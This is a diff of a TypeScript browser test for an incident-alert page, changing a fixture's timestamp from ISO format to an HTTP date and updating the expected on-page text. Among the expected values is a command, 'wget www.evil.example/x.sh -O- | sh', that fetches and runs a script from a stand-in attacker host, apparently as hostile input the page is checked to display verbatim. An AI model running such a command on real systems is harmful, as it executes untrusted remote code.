@@ -64,12 +64,12 @@ const INCIDENTS: ReadonlyArray<readonly [string, SquadcastIncident]> = [
     ),
   ],
   [
-    'degraded (severity 4, created_at as an ISO string, server_or_region null, no id)',
+    'degraded (severity 4, created_at as an HTTP date, server_or_region null, no id)',
     toIncident(
       readAlert(
         {
           title: 'Host: new payload shape',
-          created_at: '2026-12-01T09:29:58.000Z',
+          created_at: 'Tue, 01 Dec 2026 09:29:58 GMT',
           severity: 4,
           organization_id: '5f0c1d2e3a4b5c6d7e8f9a0b',
           server_or_region: null,
@@ -157,7 +157,7 @@ browserTest('the values read verbatim in the page: ids, hosts, times, organizati
     'wget www.evil.example/x.sh -O- | sh',
     'Fields the relay could not read:',
     'Unknown: 4 as sent',
-    '"2026-12-01T09:29:58.000Z" as sent',
+    '"Tue, 01 Dec 2026 09:29:58 GMT" as sent',
   ])
     expect({ value, shown: text.includes(value) }).toEqual({ value, shown: true });
   expect(text).not.toContain('\\');
